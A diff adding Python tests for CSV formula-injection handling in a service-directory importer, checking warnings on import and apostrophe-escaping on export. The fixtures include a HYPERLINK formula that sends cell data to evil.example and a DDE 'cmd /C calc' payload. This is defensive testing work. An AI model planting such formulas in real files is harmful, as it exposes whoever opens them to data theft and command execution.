@@ -583,3 +583,59 @@ def test_attributes_of_other_entities_are_skipped_with_a_note(package):
 )
 def test_taxonomy_terms_map_onto_service_categories(name, code, expected):
     assert category_code_for_term(name, code) == expected
+
+
+# Cells a spreadsheet would run as a formula: imported as given with a warning, exported as text.
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_a_formula_cell_is_imported_as_given_with_a_warning_naming_file_row_and_field(package):
+    organization = edit_row(package, "organizations.csv", 3, name=FORMULA)
+    service = edit_row(package, "services.csv", 2, description="@SUM(1+1)*cmd|' /C calc'!A0")
+    location = edit_row(package, "locations.csv", 4, transportation="-Bus 12, stop on Main Street")
+    edit_row(package, "locations.csv", 5, transportation="-2+3")  # a plain number: nothing runs, no warning
+
+    result, output = run_import(package)
+
+    assert result.warnings == [
+        "organizations.csv row 3, field 'name': begins with '=' as a spreadsheet formula does; imported as "
+        "given, exported with a leading apostrophe so that spreadsheets show it as text.",
+        "locations.csv row 4, field 'transportation': begins with '-' as a spreadsheet formula does; "
+        "imported as given, exported with a leading apostrophe so that spreadsheets show it as text.",
+        "services.csv row 2, field 'description': begins with '@' as a spreadsheet formula does; imported "
+        "as given, exported with a leading apostrophe so that spreadsheets show it as text.",
+    ]
+    assert [line for line in output if line.startswith("Warning:")] == [
+        f"Warning: {warning}" for warning in result.warnings
+    ]
+    assert Organization.objects.get(hsds_id=organization["id"]).name == FORMULA
+    assert Service.objects.get(hsds_id=service["id"]).description.startswith("@SUM(")
+    assert Location.objects.get(hsds_id=location["id"]).transportation == "-Bus 12, stop on Main Street"
+    assert directory_counts() == SAMPLE_COUNTS
+
+
+def test_phone_numbers_are_not_warned_about(package):
+    header, rows = read_table(package / "phones.csv")
+    rows[0]["number"] = "+1 555-0100 ext. 4"  # not a plain number, yet how phone numbers are written
+    rows[1]["number"] = "+1 (555) 000-1234"
+    write_table(package / "phones.csv", header, rows)
+
+    result, _output = run_import(package)
+
+    assert result.warnings == []
+    assert Phone.objects.get(hsds_id=rows[0]["id"]).number == "+1 555-0100 ext. 4"
+
+
+def test_a_formula_cell_imported_comes_out_of_the_export_as_text(package, tmp_path):
+    organization = edit_row(package, "organizations.csv", 3, name=FORMULA)
+    edit_row(package, "phones.csv", 2, number="+1 (555) 000-1234")
+    run_import(package)
+
+    directory_export(directory=tmp_path / "export")
+
+    _header, organizations = read_table(tmp_path / "export" / "organizations.csv")
+    exported = next(row for row in organizations if row["id"] == organization["id"])
+    assert exported["name"] == "'" + FORMULA
+    _header, phones = read_table(tmp_path / "export" / "phones.csv")
+    assert "+1 (555) 000-1234" in [row["number"] for row in phones]  # a plain phone number stays as it is
